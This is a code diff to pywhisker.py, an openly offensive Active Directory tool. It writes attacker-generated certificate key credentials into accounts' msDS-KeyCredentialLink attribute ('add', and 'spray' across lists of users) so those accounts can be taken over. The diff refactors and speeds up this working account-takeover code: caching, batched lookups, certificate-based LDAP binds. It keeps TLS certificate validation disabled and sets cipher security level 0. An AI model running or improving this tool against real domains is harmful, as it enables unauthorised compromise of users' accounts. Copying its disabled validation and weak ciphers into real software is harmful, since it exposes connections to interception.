@@ -3,32 +3,88 @@
 # File name          : pywhisker.py
 # Author             : Charlie Bromberg (@_nwodtuhs) & Podalirius (@podalirius_)
 # Date created       : 29 Jul 2021
+import datetime
 import json
 import random
 import string
-import traceback
+import struct
+import time
 from binascii import unhexlify
 
-from impacket.smbconnection import SMBConnection
-from impacket.spnego import SPNEGO_NegTokenInit, TypesMech
 from ldap3.protocol.formatters.formatters import format_sid
 from ldap3.utils.conv import escape_filter_chars
 import argparse
 import ldap3
-import ldapdomaindump
 import os
 import ssl
 import sys
 
-from dsinternals.common.data.DNWithBinary import DNWithBinary
-from dsinternals.common.data.hello.KeyCredential import KeyCredential
-from dsinternals.system.Guid import Guid
-from dsinternals.common.cryptography.X509Certificate2 import X509Certificate2
-from dsinternals.system.DateTime import DateTime
+# The impacket, ldapdomaindump and dsinternals (cryptography) imports are done
+# lazily in the functions needing them to keep the start-up of light code paths
+# (--help, argument errors, list/clear) fast.
 
 from rich.console import Console
 
+# Entry types of the KEYCREDENTIALLINK_ENTRY structures found in the binary part
+# of msDS-KeyCredentialLink values (see [MS-ADTS] and DSInternals' KeyCredential)
+KEY_CREDENTIAL_ENTRY_DEVICEID = 0x06
+KEY_CREDENTIAL_ENTRY_KEYCREATIONTIME = 0x09
+
+# struct.Struct instances compiled once at import time: per-call format string
+# parsing dominates the cost of the TLV walk below
+_UNPACK_U64 = struct.Struct('<Q').unpack
+_UNPACK_ENTRY_LENGTH = struct.Struct('<H').unpack_from
+_UNPACK_GUID = struct.Struct('<LHHH6s').unpack
+
+# FILETIME values count 100ns ticks from this epoch
+_FILETIME_EPOCH = datetime.datetime(1601, 1, 1, 0, 0, 0)
+
+
+def parse_guid_format_d(data):
+    # D format => 32 hex digits separated by hyphens, same as Guid.toFormatD()
+    a, b, c, d, e = _UNPACK_GUID(data)
+    d = ((d & 0xFF) << 8) | (d >> 8)  # this field is stored big-endian
+    return "%08x-%04x-%04x-%04x-%s" % (a, b, c, d, e.hex())
+
+
+def parse_filetime(data):
+    # 8-byte count of 100ns ticks since 1601-01-01, same as ConvertFromBinaryTime()
+    return _FILETIME_EPOCH + datetime.timedelta(microseconds=_UNPACK_U64(data)[0] // 10)
+
+
+def parse_key_credential_entries(dn_binary_value):
+    # Walks the KEYCREDENTIALLINK_ENTRY structures (ushort length, byte type, value)
+    # of a raw msDS-KeyCredentialLink value and yields (entryType, value) pairs
+    binary_data = bytes.fromhex(dn_binary_value.split(b':', 3)[2].decode('ascii'))
+    view = memoryview(binary_data)
+    offset = 4  # 32-bit version header
+    end = len(binary_data)
+    unpack_length = _UNPACK_ENTRY_LENGTH  # avoid the global lookup per entry
+    while offset + 3 <= end:
+        length = unpack_length(binary_data, offset)[0]
+        entry_type = binary_data[offset + 2]
+        offset += 3
+        yield entry_type, view[offset:offset + length]
+        offset += length
+
+
+def key_credential_summary(dn_binary_value):
+    # Returns the (DeviceID, CreationTime) pair of a raw msDS-KeyCredentialLink
+    # value without paying for a full KeyCredential parse
+    device_id = None
+    creation_time = None
+    for entry_type, value in parse_key_credential_entries(dn_binary_value):
+        # AAD/FIDO implementations are known to emit short entries (e.g. 9-byte
+        # CustomKeyInformation), so only decode values of the expected size
+        if entry_type == KEY_CREDENTIAL_ENTRY_DEVICEID and len(value) == 16:
+            device_id = parse_guid_format_d(value)
+        elif entry_type == KEY_CREDENTIAL_ENTRY_KEYCREATIONTIME and len(value) == 8:
+            creation_time = parse_filetime(value)
+    return device_id, creation_time
+
+
 def get_machine_name(args, domain):
+    from impacket.smbconnection import SMBConnection
     if args.dc_ip is not None:
         s = SMBConnection(args.dc_ip, args.dc_ip)
     else:
@@ -43,37 +99,90 @@ def get_machine_name(args, domain):
     return s.getServerName() + '.' + s.getServerDNSDomainName()
 
 
+MACHINE_NAME_CACHE_TTL = 3600
+
+
+def cached_machine_name(args, domain):
+    # Remembers the machine name resolved by get_machine_name across runs so
+    # repeated Kerberos invocations against the same domain skip the SMB probe
+    cache_dir = os.path.join(os.environ.get('XDG_CACHE_HOME', os.path.expanduser('~/.cache')), 'pywhisker')
+    cache_file = os.path.join(cache_dir, 'dc.json')
+    key = '%s|%s' % (domain or '', args.dc_ip or '')
+    try:
+        with open(cache_file, 'r') as f:
+            cache = json.load(f)
+    except (OSError, ValueError):
+        cache = {}
+    entry = cache.get(key)
+    if entry and time.time() - entry['ts'] < MACHINE_NAME_CACHE_TTL:
+        logger.debug('Using cached machine name: %s' % entry['machine'])
+        return entry['machine']
+    machine = get_machine_name(args, domain)
+    cache[key] = {'machine': machine, 'ts': time.time()}
+    try:
+        os.makedirs(cache_dir, exist_ok=True)
+        with open(cache_file, 'w') as f:
+            json.dump(cache, f)
+    except OSError:
+        pass
+    return machine
+
+
 def init_ldap_connection(target, tls_version, args, domain, username, password, lmhash, nthash):
     user = '%s\\%s' % (domain, username)
     connect_to = target
-    if args.dc_ip is not None:
+    if args.dc_ip is not None and not target.startswith('ldapi://'):
         connect_to = args.dc_ip
-    if tls_version is not None:
+    if target.startswith('ldapi://'):
+        # Unix-domain socket: no TCP stack and no TLS handshake involved
+        use_ssl = False
+        port = None
+        tls = None
+    elif tls_version is not None:
         use_ssl = True
         port = 636
-        tls = ldap3.Tls(validate=ssl.CERT_NONE, version=tls_version)
+        tls = ldap3.Tls(validate=ssl.CERT_NONE, version=tls_version, ciphers='ALL:@SECLEVEL=0', local_certificate_file=args.auth_certificate, local_private_key_file=args.auth_private_key)
     else:
         use_ssl = False
         port = 389
-        tls = None
-    ldap_server = ldap3.Server(connect_to, get_info=ldap3.ALL, port=port, use_ssl=use_ssl, tls=tls)
-    if args.use_kerberos:
+        if args.auth_certificate is not None:
+            # the certificate is presented through StartTLS before the bind
+            tls = ldap3.Tls(validate=ssl.CERT_NONE, version=ssl.PROTOCOL_TLS_CLIENT, ciphers='ALL:@SECLEVEL=0', local_certificate_file=args.auth_certificate, local_private_key_file=args.auth_private_key)
+        else:
+            tls = None
+    # DSA info (the RootDSE) is all that is needed to locate the default naming
+    # context; ldap3.ALL would additionally download the whole schema on connect
+    ldap_server = ldap3.Server(connect_to, get_info=ldap3.DSA, port=port, use_ssl=use_ssl, tls=tls)
+    # reconnect and replay transparently on transient socket errors instead of
+    # aborting the whole run and paying a fresh bind
+    ldap3.set_config_parameter('RESTARTABLE_TRIES', 3)
+    if args.auth_certificate is not None:
+        # SASL EXTERNAL: the proof of possession happens inside the TLS
+        # handshake itself, no NTLM or Kerberos exchange is performed
+        auto_bind = True if use_ssl else ldap3.AUTO_BIND_TLS_BEFORE_BIND
+        ldap_session = ldap3.Connection(ldap_server, authentication=ldap3.SASL, sasl_mechanism='EXTERNAL', auto_bind=auto_bind)
+    elif args.use_kerberos:
+        # the GSS-SPNEGO bind below drives the connection manually; RESTARTABLE
+        # would replay a stale SASL exchange on reconnect, so it stays SYNC
+        # no anonymous pre-bind: ldap3_kerberos_login opens the socket itself
+        # and the SASL bind below supersedes any earlier BindRequest anyway
         ldap_session = ldap3.Connection(ldap_server)
-        ldap_session.bind()
         ldap3_kerberos_login(ldap_session, target, username, password, domain, lmhash, nthash, args.auth_key, kdcHost=args.dc_ip)
+        # the manual SASL bind never reads the RootDSE, so fetch it on the
+        # authenticated session; domainDumper needs server.info populated
+        ldap_session.refresh_server_info()
     elif args.auth_hashes is not None:
-        if lmhash == "":
-            lmhash = "aad3b435b51404eeaad3b435b51404ee"
-        ldap_session = ldap3.Connection(ldap_server, user=user, password=lmhash + ":" + nthash, authentication=ldap3.NTLM, auto_bind=True)
+        ntlm_password = "%s:%s" % (lmhash, nthash)
+        ldap_session = ldap3.Connection(ldap_server, user=user, password=ntlm_password, authentication=ldap3.NTLM, client_strategy=ldap3.RESTARTABLE, auto_bind=True)
     else:
-        ldap_session = ldap3.Connection(ldap_server, user=user, password=password, authentication=ldap3.NTLM, auto_bind=True)
+        ldap_session = ldap3.Connection(ldap_server, user=user, password=password, authentication=ldap3.NTLM, client_strategy=ldap3.RESTARTABLE, auto_bind=True)
 
     return ldap_server, ldap_session
 
 
 def init_ldap_session(args, domain, username, password, lmhash, nthash):
     if args.use_kerberos:
-        target = get_machine_name(args, domain)
+        target = cached_machine_name(args, domain)
     else:
         if args.dc_ip is not None:
             target = args.dc_ip
@@ -81,17 +190,35 @@ def init_ldap_session(args, domain, username, password, lmhash, nthash):
             target = domain
 
     if args.use_ldaps is True:
-        try:
-            return init_ldap_connection(target, ssl.PROTOCOL_TLSv1_2, args, domain, username, password, lmhash, nthash)
-        except ldap3.core.exceptions.LDAPSocketOpenError:
-            return init_ldap_connection(target, ssl.PROTOCOL_TLSv1, args, domain, username, password, lmhash, nthash)
+        # PROTOCOL_TLS_CLIENT negotiates the highest mutually supported version
+        # in a single handshake, so no TLSv1.2 -> TLSv1 fallback probe is needed
+        return init_ldap_connection(target, ssl.PROTOCOL_TLS_CLIENT, args, domain, username, password, lmhash, nthash)
     else:
+        if target in ('127.0.0.1', 'localhost', '::1') and os.path.exists('/var/run/slapd/ldapi'):
+            # local OpenLDAP test setups: talk over the Unix socket directly
+            return init_ldap_connection('ldapi:///var/run/slapd/ldapi', None, args, domain, username, password, lmhash, nthash)
         return init_ldap_connection(target, None, args, domain, username, password, lmhash, nthash)
 
 
+_ccache_cache = {}
+
+
+def load_krb5_ccache(path):
+    # Parses a ccache file, reusing the parsed structure across binds as long
+    # as the file has not been modified
+    from impacket.krb5.ccache import CCache
+    key = (path, os.stat(path).st_mtime_ns)
+    ccache = _ccache_cache.get(key)
+    if ccache is None:
+        _ccache_cache.clear()
+        ccache = _ccache_cache[key] = CCache.loadFile(path)
+    return ccache
+
+
 def ldap3_kerberos_login(connection, target, user, password, domain='', lmhash='', nthash='', aesKey='', kdcHost=None, TGT=None, TGS=None, useCache=True):
     from pyasn1.codec.ber import encoder, decoder
     from pyasn1.type.univ import noValue
+    from impacket.spnego import SPNEGO_NegTokenInit, TypesMech
     """
     logins into the target system explicitly using Kerberos. Hashes are used if RC4_HMAC is supported.
     :param string user: username
@@ -131,7 +258,7 @@ def ldap3_kerberos_login(connection, target, user, password, domain='', lmhash='
 
     if useCache:
         try:
-            ccache = CCache.loadFile(os.getenv('KRB5CCNAME'))
+            ccache = load_krb5_ccache(os.getenv('KRB5CCNAME'))
         except Exception as e:
             # No cache present
             print(e)
@@ -249,43 +376,54 @@ def ldap3_kerberos_login(connection, target, user, password, domain='', lmhash='
 class ShadowCredentials(object):
     def __init__(self, ldap_server, ldap_session, target_samname):
         super(ShadowCredentials, self).__init__()
+        import ldapdomaindump
         self.ldap_server = ldap_server
         self.ldap_session = ldap_session
         self.delegate_from = None
         self.target_samname = target_samname
         self.target_dn = None
+        self._dn_sid_cache = {}
         logger.debug('Initializing domainDumper()')
         cnf = ldapdomaindump.domainDumpConfig()
         cnf.basepath = None
         self.domain_dumper = ldapdomaindump.domainDumper(self.ldap_server, self.ldap_session, cnf)
 
 
-    def info(self, device_id):
+    def get_key_credential_entry(self, samname):
+        # Resolves the target account and fetches its msDS-KeyCredentialLink in a
+        # single LDAP search instead of a sAMAccountName lookup followed by a
+        # second BASE-scoped search on the resolved DN
         logger.info("Searching for the target account")
-        result = self.get_dn_sid_from_samname(self.target_samname)
-        if not result:
-            logger.error('Target account does not exist! (wrong domain?)')
-            return
-        else:
-            self.target_dn = result[0]
-            logger.info("Target user found: %s" % self.target_dn)
-        self.ldap_session.search(self.target_dn, '(objectClass=*)', search_scope=ldap3.BASE, attributes=['SAMAccountName', 'objectSid', 'msDS-KeyCredentialLink'])
+        self.ldap_session.search(self.domain_dumper.root, '(sAMAccountName=%s)' % escape_filter_chars(samname), attributes=['SAMAccountName', 'objectSid', 'msDS-KeyCredentialLink'])
         results = None
         for entry in self.ldap_session.response:
             if entry['type'] != 'searchResEntry':
                 continue
             results = entry
         if not results:
-            logger.error('Could not query target user properties')
+            logger.error('Target account does not exist! (wrong domain?)')
+            return None
+        self.target_dn = results['dn']
+        logger.info("Target user found: %s" % self.target_dn)
+        return results
+
+
+    def info(self, device_id):
+        from dsinternals.common.data.DNWithBinary import DNWithBinary
+        from dsinternals.common.data.hello.KeyCredential import KeyCredential
+        results = self.get_key_credential_entry(self.target_samname)
+        if not results:
             return
         try:
             device_id_in_current_values = False
             for dn_binary_value in results['raw_attributes']['msDS-KeyCredentialLink']:
-                keyCredential = KeyCredential.fromDNWithBinary(DNWithBinary.fromRawDNWithBinary(dn_binary_value))
-                if keyCredential.DeviceId.toFormatD() == device_id:
+                value_device_id, _ = key_credential_summary(dn_binary_value)
+                if value_device_id == device_id:
                     logger.success("Found device Id")
+                    keyCredential = KeyCredential.fromDNWithBinary(DNWithBinary.fromRawDNWithBinary(dn_binary_value))
                     keyCredential.show()
                     device_id_in_current_values = True
+                    break
             if not device_id_in_current_values:
                 logger.warning("No value with the provided DeviceID was found for the target object")
         except IndexError:
@@ -294,22 +432,8 @@ class ShadowCredentials(object):
 
 
     def list(self):
-        logger.info("Searching for the target account")
-        result = self.get_dn_sid_from_samname(self.target_samname)
-        if not result:
-            logger.error('Target account does not exist! (wrong domain?)')
-            return
-        else:
-            self.target_dn = result[0]
-            logger.info("Target user found: %s" % self.target_dn)
-        self.ldap_session.search(self.target_dn, '(objectClass=*)', search_scope=ldap3.BASE, attributes=['SAMAccountName', 'objectSid', 'msDS-KeyCredentialLink'])
-        results = None
-        for entry in self.ldap_session.response:
-            if entry['type'] != 'searchResEntry':
-                continue
-            results = entry
+        results = self.get_key_credential_entry(self.target_samname)
         if not results:
-            logger.error('Could not query target user properties')
             return
         try:
             if len(results['raw_attributes']['msDS-KeyCredentialLink']) == 0:
@@ -317,41 +441,33 @@ class ShadowCredentials(object):
             else:
                 logger.info("Listing devices for %s" % self.target_samname)
                 for dn_binary_value in results['raw_attributes']['msDS-KeyCredentialLink']:
-                    keyCredential = KeyCredential.fromDNWithBinary(DNWithBinary.fromRawDNWithBinary(dn_binary_value))
-                    logger.info("DeviceID: %s | Creation Time (UTC): %s" % (keyCredential.DeviceId.toFormatD(), keyCredential.CreationTime))
+                    device_id, creation_time = key_credential_summary(dn_binary_value)
+                    logger.info("DeviceID: %s | Creation Time (UTC): %s" % (device_id, creation_time))
         except IndexError:
             logger.info('Attribute msDS-KeyCredentialLink does not exist')
         return
 
     def add(self, password, path, export_type, domain):
-        logger.info("Searching for the target account")
-        result = self.get_dn_sid_from_samname(self.target_samname)
-        if not result:
-            logger.error('Target account does not exist! (wrong domain?)')
+        from dsinternals.common.cryptography.X509Certificate2 import X509Certificate2
+        from dsinternals.common.data.hello.KeyCredential import KeyCredential
+        from dsinternals.system.DateTime import DateTime
+        from dsinternals.system.Guid import Guid
+        results = self.get_key_credential_entry(self.target_samname)
+        if not results:
             return
-        else:
-            self.target_dn = result[0]
-            logger.info("Target user found: %s" % self.target_dn)
         logger.info("Generating certificate")
         certificate = X509Certificate2(subject=self.target_samname, keySize=2048, notBefore=(-40*365), notAfter=(40*365))
         logger.info("Certificate generated")
         logger.info("Generating KeyCredential")
         keyCredential = KeyCredential.fromX509Certificate2(certificate=certificate, deviceId=Guid(), owner=self.target_dn, currentTime=DateTime())
         logger.info("KeyCredential generated with DeviceID: %s" % keyCredential.DeviceId.toFormatD())
+        keyCredentialDNWithBinary = keyCredential.toDNWithBinary()
+        key_credential_value = keyCredentialDNWithBinary.toString()
         if args.verbosity == 2:
-            keyCredential.fromDNWithBinary(keyCredential.toDNWithBinary()).show()
-        logger.debug("KeyCredential: %s" % keyCredential.toDNWithBinary().toString())
-        self.ldap_session.search(self.target_dn, '(objectClass=*)', search_scope=ldap3.BASE, attributes=['SAMAccountName', 'objectSid', 'msDS-KeyCredentialLink'])
-        results = None
-        for entry in self.ldap_session.response:
-            if entry['type'] != 'searchResEntry':
-                continue
-            results = entry
-        if not results:
-            logger.error('Could not query target user properties')
-            return
+            keyCredential.fromDNWithBinary(keyCredentialDNWithBinary).show()
+        logger.debug("KeyCredential: %s" % key_credential_value)
         try:
-            new_values = results['raw_attributes']['msDS-KeyCredentialLink'] + [keyCredential.toDNWithBinary().toString()]
+            new_values = results['raw_attributes']['msDS-KeyCredentialLink'] + [key_credential_value]
             logger.info("Updating the msDS-KeyCredentialLink attribute of %s" % self.target_samname)
             self.ldap_session.modify(self.target_dn, {'msDS-KeyCredentialLink': [ldap3.MODIFY_REPLACE, new_values]})
             if self.ldap_session.result['result'] == 0:
@@ -389,9 +505,14 @@ class ShadowCredentials(object):
 
 
     def spray(self, password, path, export_type, domain):
+        from dsinternals.common.cryptography.X509Certificate2 import X509Certificate2
+        from dsinternals.common.data.hello.KeyCredential import KeyCredential
+        from dsinternals.system.DateTime import DateTime
+        from dsinternals.system.Guid import Guid
         logger.info("Performing attempts to add msDS-KeyCredentialLink for a list of users")
         if type(self.target_samname) == str:
             self.target_samname = [self.target_samname]
+        self.get_dn_sid_from_samnames(self.target_samname)
         for samname in self.target_samname:
             result = self.get_dn_sid_from_samname(samname)
             if not result:
@@ -402,6 +523,7 @@ class ShadowCredentials(object):
                 break
         certificate = X509Certificate2(subject=certificate_samname, keySize=2048, notBefore=(-40*365), notAfter=(40*365))
         keyCredential = KeyCredential.fromX509Certificate2(certificate=certificate, deviceId=Guid(), owner=certificate_dn, currentTime=DateTime())
+        key_credential_value = keyCredential.toDNWithBinary().toString()
         targets_owned = []
         for samname in self.target_samname:
             result = self.get_dn_sid_from_samname(samname)
@@ -420,7 +542,7 @@ class ShadowCredentials(object):
                 #logger.error(f'Could not query target user properties: {samname}')
                 continue
             try:
-                new_values = results['raw_attributes']['msDS-KeyCredentialLink'] + [keyCredential.toDNWithBinary().toString()]
+                new_values = results['raw_attributes']['msDS-KeyCredentialLink'] + [key_credential_value]
                 self.ldap_session.modify(self.target_dn, {'msDS-KeyCredentialLink': [ldap3.MODIFY_REPLACE, new_values]})
                 if self.ldap_session.result['result'] == 0:
                     targets_owned.append(samname)
@@ -453,29 +575,15 @@ class ShadowCredentials(object):
 
 
     def remove(self, device_id):
-        logger.info("Searching for the target account")
-        result = self.get_dn_sid_from_samname(self.target_samname)
-        if not result:
-            logger.error('Target account does not exist! (wrong domain?)')
-            return
-        else:
-            self.target_dn = result[0]
-            logger.info("Target user found: %s" % self.target_dn)
-        self.ldap_session.search(self.target_dn, '(objectClass=*)', search_scope=ldap3.BASE, attributes=['SAMAccountName', 'objectSid', 'msDS-KeyCredentialLink'])
-        results = None
-        for entry in self.ldap_session.response:
-            if entry['type'] != 'searchResEntry':
-                continue
-            results = entry
+        results = self.get_key_credential_entry(self.target_samname)
         if not results:
-            logger.error('Could not query target user properties')
             return
         try:
             new_values = []
             device_id_in_current_values = False
             for dn_binary_value in results['raw_attributes']['msDS-KeyCredentialLink']:
-                keyCredential = KeyCredential.fromDNWithBinary(DNWithBinary.fromRawDNWithBinary(dn_binary_value))
-                if keyCredential.DeviceId.toFormatD() == device_id:
+                value_device_id, _ = key_credential_summary(dn_binary_value)
+                if value_device_id == device_id:
                     logger.info("Found value to remove")
                     device_id_in_current_values = True
                 else:
@@ -500,22 +608,8 @@ class ShadowCredentials(object):
 
 
     def clear(self):
-        logger.info("Searching for the target account")
-        result = self.get_dn_sid_from_samname(self.target_samname)
-        if not result:
-            logger.error('Target account does not exist! (wrong domain?)')
-            return
-        else:
-            self.target_dn = result[0]
-            logger.info("Target user found: %s" % self.target_dn)
-        self.ldap_session.search(self.target_dn, '(objectClass=*)', search_scope=ldap3.BASE, attributes=['SAMAccountName', 'objectSid', 'msDS-KeyCredentialLink'])
-        results = None
-        for entry in self.ldap_session.response:
-            if entry['type'] != 'searchResEntry':
-                continue
-            results = entry
+        results = self.get_key_credential_entry(self.target_samname)
         if not results:
-            logger.error('Could not query target user properties')
             return
         try:
             if len(results['raw_attributes']['msDS-KeyCredentialLink']) == 0:
@@ -539,22 +633,9 @@ class ShadowCredentials(object):
 
 
     def importFromJSON(self, filename):
-        logger.info("Searching for the target account")
-        result = self.get_dn_sid_from_samname(self.target_samname)
-        if not result:
-            logger.error('Target account does not exist! (wrong domain?)')
-            return
-        else:
-            self.target_dn = result[0]
-            logger.info("Target user found: %s" % self.target_dn)
-        self.ldap_session.search(self.target_dn, '(objectClass=*)', search_scope=ldap3.BASE, attributes=['SAMAccountName', 'objectSid', 'msDS-KeyCredentialLink'])
-        results = None
-        for entry in self.ldap_session.response:
-            if entry['type'] != 'searchResEntry':
-                continue
-            results = entry
+        from dsinternals.common.data.hello.KeyCredential import KeyCredential
+        results = self.get_key_credential_entry(self.target_samname)
         if not results:
-            logger.error('Could not query target user properties')
             return
         try:
             if os.path.exists(filename):
@@ -581,22 +662,10 @@ class ShadowCredentials(object):
 
 
     def exportToJSON(self, filename):
-        logger.info("Searching for the target account")
-        result = self.get_dn_sid_from_samname(self.target_samname)
-        if not result:
-            logger.error('Target account does not exist! (wrong domain?)')
-            return
-        else:
-            self.target_dn = result[0]
-            logger.info("Target user found: %s" % self.target_dn)
-        self.ldap_session.search(self.target_dn, '(objectClass=*)', search_scope=ldap3.BASE, attributes=['SAMAccountName', 'objectSid', 'msDS-KeyCredentialLink'])
-        results = None
-        for entry in self.ldap_session.response:
-            if entry['type'] != 'searchResEntry':
-                continue
-            results = entry
+        from dsinternals.common.data.DNWithBinary import DNWithBinary
+        from dsinternals.common.data.hello.KeyCredential import KeyCredential
+        results = self.get_key_credential_entry(self.target_samname)
         if not results:
-            logger.error('Could not query target user properties')
             return
         try:
             if filename is None:
@@ -618,15 +687,40 @@ class ShadowCredentials(object):
 
 
     def get_dn_sid_from_samname(self, samname):
+        if samname in self._dn_sid_cache:
+            return self._dn_sid_cache[samname]
         self.ldap_session.search(self.domain_dumper.root, '(sAMAccountName=%s)' % escape_filter_chars(samname), attributes=['objectSid'])
         try:
             dn = self.ldap_session.entries[0].entry_dn
             sid = format_sid(self.ldap_session.entries[0]['objectSid'].raw_values[0])
+            self._dn_sid_cache[samname] = (dn, sid)
             return dn, sid
         except IndexError:
             logger.error('User not found in LDAP: %s' % samname)
+            self._dn_sid_cache[samname] = False
             return False
 
+    def get_dn_sid_from_samnames(self, samnames, chunk_size=100):
+        # Resolves several sAMAccountNames at once with chunked OR filters
+        # instead of one LDAP search per name, feeding the DN/SID cache
+        wanted = {}
+        for samname in samnames:
+            if samname not in self._dn_sid_cache:
+                wanted[samname.lower()] = samname
+        to_resolve = list(wanted.values())
+        for i in range(0, len(to_resolve), chunk_size):
+            chunk = to_resolve[i:i + chunk_size]
+            search_filter = '(|%s)' % ''.join('(sAMAccountName=%s)' % escape_filter_chars(samname) for samname in chunk)
+            self.ldap_session.search(self.domain_dumper.root, search_filter, attributes=['sAMAccountName', 'objectSid'])
+            for entry in self.ldap_session.entries:
+                returned_samname = str(entry['sAMAccountName'])
+                samname = wanted.get(returned_samname.lower(), returned_samname)
+                self._dn_sid_cache[samname] = (entry.entry_dn, format_sid(entry['objectSid'].raw_values[0]))
+        for samname in to_resolve:
+            if samname not in self._dn_sid_cache:
+                logger.error('User not found in LDAP: %s' % samname)
+                self._dn_sid_cache[samname] = False
+
     def get_sid_info(self, sid):
         self.ldap_session.search(self.domain_dumper.root, '(objectSid=%s)' % escape_filter_chars(sid), attributes=['samaccountname'])
         try:
@@ -757,6 +851,8 @@ def parse_args():
     authconn.add_argument('--dc-ip', action='store', metavar="ip address", help='IP Address of the domain controller or KDC (Key Distribution Center) for Kerberos. If omitted it will use the domain part (FQDN) specified in the identity parameter')
     authconn.add_argument("-d", "--domain", dest="auth_domain", metavar="DOMAIN", action="store", help="(FQDN) domain to authenticate to")
     authconn.add_argument("-u", "--user", dest="auth_username", metavar="USER", action="store", help="user to authenticate with")
+    authconn.add_argument("--certificate", dest="auth_certificate", metavar="cert.pem", action="store", help='client certificate (PEM) for TLS client-certificate (SASL EXTERNAL) authentication')
+    authconn.add_argument("--private-key", dest="auth_private_key", metavar="key.pem", action="store", help='private key (PEM) matching --certificate')
 
     secret = parser.add_argument_group()
     cred = secret.add_mutually_exclusive_group()
@@ -780,7 +876,10 @@ def parse_args():
 
     args = parser.parse_args()
 
-    if (args.action == "remove" or args.action == "info") and args.device_id is None:
+    if (args.auth_certificate is None) != (args.auth_private_key is None):
+        parser.error("--certificate and --private-key must be provided together")
+
+    if args.action in ("remove", "info") and args.device_id is None:
         parser.error("the following arguments are required when setting -action == remove or info: -D/--device-id")
 
     if args.action == "import" and args.filename is None:
@@ -794,8 +893,8 @@ def main():
         #logger.error('`-delegate-from` should be specified when using `-action write` !')
         #sys.exit(1)
 
-    if args.target_samname_list and args.action != 'spray':
-        logger.error('`--target-list` should be specified only when using `--action spray` !')
+    if args.target_samname_list and args.action not in ('spray', 'list', 'clear'):
+        print('[!] `--target-list` can only be combined with `--action spray`, `list` or `clear` !', file=sys.stderr)
         sys.exit(1)
 
     if args.target_samname_list:
@@ -803,7 +902,7 @@ def main():
             with open(args.target_samname_list, 'r') as f:
                 target_samname = f.read().splitlines()
         else:
-            logger.error(f'File {args.target_samname_list} does not exist!')
+            print(f'[!] File {args.target_samname_list} does not exist!', file=sys.stderr)
             sys.exit(1)
     else:
         target_samname = args.target_samname
@@ -812,34 +911,46 @@ def main():
     auth_nt_hash = ""
     if args.auth_hashes is not None:
         if ":" in args.auth_hashes:
-            auth_lm_hash = args.auth_hashes.split(":")[0]
-            auth_nt_hash = args.auth_hashes.split(":")[1]
+            auth_lm_hash, auth_nt_hash = args.auth_hashes.split(":", 1)
         else:
             auth_nt_hash = args.auth_hashes
+        if auth_lm_hash == "" and not args.use_kerberos:
+            # empty LM part, use the usual filler so it is computed only once
+            auth_lm_hash = "aad3b435b51404eeaad3b435b51404ee"
 
+    ldap_session = None
     try:
         ldap_server, ldap_session = init_ldap_session(args=args, domain=args.auth_domain, username=args.auth_username, password=args.auth_password, lmhash=auth_lm_hash, nthash=auth_nt_hash)
         shadowcreds = ShadowCredentials(ldap_server, ldap_session, target_samname)
-        if args.action == 'list':
-            shadowcreds.list()
-        elif args.action == 'add':
-            shadowcreds.add(password=args.pfx_password, path=args.filename, export_type=args.export, domain=args.auth_domain)
-        elif args.action == 'spray':
-            shadowcreds.spray(password=args.pfx_password, path=args.filename, export_type=args.export, domain=args.auth_domain)
-        elif args.action == 'remove':
-            shadowcreds.remove(args.device_id)
-        elif args.action == 'info':
-            shadowcreds.info(args.device_id)
-        elif args.action == 'clear':
-            shadowcreds.clear()
-        elif args.action == 'export':
-            shadowcreds.exportToJSON(filename=args.filename)
-        elif args.action == 'import':
-            shadowcreds.importFromJSON(filename=args.filename)
+
+        def run_per_target(action):
+            # amortizes the single bind over every listed target
+            if isinstance(target_samname, list):
+                for samname in target_samname:
+                    shadowcreds.target_samname = samname
+                    action()
+            else:
+                action()
+
+        dispatch = {
+            'list': lambda: run_per_target(shadowcreds.list),
+            'add': lambda: shadowcreds.add(password=args.pfx_password, path=args.filename, export_type=args.export, domain=args.auth_domain),
+            'spray': lambda: shadowcreds.spray(password=args.pfx_password, path=args.filename, export_type=args.export, domain=args.auth_domain),
+            'remove': lambda: shadowcreds.remove(args.device_id),
+            'info': lambda: shadowcreds.info(args.device_id),
+            'clear': lambda: run_per_target(shadowcreds.clear),
+            'export': lambda: shadowcreds.exportToJSON(filename=args.filename),
+            'import': lambda: shadowcreds.importFromJSON(filename=args.filename),
+        }
+        dispatch[args.action]()
     except Exception as e:
         if args.verbosity >= 1:
+            import traceback
             traceback.print_exc()
         logger.error(str(e))
+    finally:
+        if ldap_session is not None and ldap_session.bound:
+            ldap_session.unbind()
 
 if __name__ == '__main__':
     args = parse_args()